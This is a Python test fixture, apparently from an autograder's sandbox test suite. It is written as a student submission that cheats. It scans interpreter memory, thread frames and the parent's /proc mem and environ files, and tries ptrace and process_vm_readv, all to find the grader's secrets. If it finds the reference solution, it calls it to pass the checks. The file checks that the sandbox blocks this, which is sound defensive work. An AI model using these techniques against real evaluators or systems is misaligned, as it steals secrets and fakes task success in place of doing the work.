"""Attack: look for the grader's secrets in memory. The checks run in the grader's process and call this code,
so perhaps the reference solution, the check modules, the grader's session objects or its frames are reachable:
sys.modules, every object the garbage collector tracks, every code object's constants, every thread's frames;
and, across the process boundary, /proc/<parent>/mem, environ and maps, ptrace and process_vm_readv.
If a reference ``backward_propagation`` turns up, use it; otherwise report what was found as "MEMSCAN {...}".

Defence: the student process is forked from a zygote that never held a secret (it starts before the reference
is loaded, with a clean environment), and runs as another uid under Landlock and seccomp, so the grader's
memory is out of reach. The test asserts every list in MEMSCAN is empty and the score is 0.
"""

import ctypes
import gc
import json
import os
import sys

SECRET_WORDS = ("log_likelihood", "_own_loop_matches", "saturated_share", "GRADER_SECRET_CANARY", "ENVCANARY")
GRADER_SIDE = ("grader.plugin", "grader.check_protocol", "grader.student_proxy", "grader.localise", "grader.checking",
               "grader.session", "grader.worker_sandbox", "grader.program", "grader.pipeline", "grader.assignment",
               "grader.sandbox", "grader.zygote", "grader.cli", "_pytest", "pytest", "pluggy", "conftest")


def _suspicious_file(filename):
    return "/reference/" in filename or "/checks/" in filename or "solution" in filename


def _scan():
    found = {"modules": [], "functions": [], "objects": [], "strings": [], "frames": [], "proc": {}, "calls": {}}
    for name, module in list(sys.modules.items()):
        filename = str(getattr(module, "__file__", "") or "")
        if name.startswith(GRADER_SIDE) or "reference" in name or _suspicious_file(filename):
            found["modules"].append(name)
    for obj in gc.get_objects():
        kind = type(obj).__name__
        if kind == "function":
            filename = obj.__code__.co_filename
            if _suspicious_file(filename):
                found["functions"].append(f"{obj.__qualname__}@{filename}")
            for const in obj.__code__.co_consts:
                if isinstance(const, str) and any(w in const for w in SECRET_WORDS):
                    found["strings"].append(const[:60])
        elif kind in ("CheckFailure", "GradingPlugin", "StudentSession", "Assignment", "Sandbox", "Job", "Zygote"):
            found["objects"].append(kind)
        elif isinstance(obj, dict):
            for value in list(obj.values())[:200]:
                if isinstance(value, str) and any(w in value for w in SECRET_WORDS):
                    found["strings"].append(value[:60])
    for thread_id, frame in sys._current_frames().items():
        while frame is not None:
            filename = frame.f_code.co_filename
            if _suspicious_file(filename) or "_pytest" in filename or any(
                    f"grader/{name}." in filename for name in ("plugin", "check_protocol", "student_proxy", "localise")):
                found["frames"].append(filename)
            frame = frame.f_back
    parent = os.getppid()
    for what in ("mem", "environ", "maps", "cmdline"):
        for pid in (parent, 1):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as fh:
                    found["proc"][f"{pid}/{what}"] = fh.read(200).decode("latin-1")
            except OSError as exc:
                found["proc"][f"{pid}/{what}"] = "denied: " + type(exc).__name__
    libc = ctypes.CDLL(None, use_errno=True)
    found["calls"]["ptrace_attach"] = (libc.ptrace(16, parent, None, None), ctypes.get_errno())
    buf = ctypes.create_string_buffer(64)
    local = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 64)
    remote = (ctypes.c_void_p * 2)(0x400000, 64)
    found["calls"]["process_vm_readv"] = (libc.process_vm_readv(parent, local, 1, remote, 1, 0), ctypes.get_errno())
    return found


def _reference(name):
    for obj in gc.get_objects():
        if type(obj).__name__ == "function" and obj.__name__ == name and _suspicious_file(obj.__code__.co_filename):
            return obj
    return None


def backward_propagation(parameters, cache, X, Y):
    stolen = _reference("backward_propagation")
    if stolen is not None:
        return stolen(parameters, cache, X, Y)
    raise RuntimeError("MEMSCAN " + json.dumps(_scan())[:1900])


def forward_propagation(X, parameters):
    stolen = _reference("forward_propagation")
    if stolen is not None:
        return stolen(X, parameters)
    raise RuntimeError("MEMSCAN " + json.dumps(_scan())[:1900])
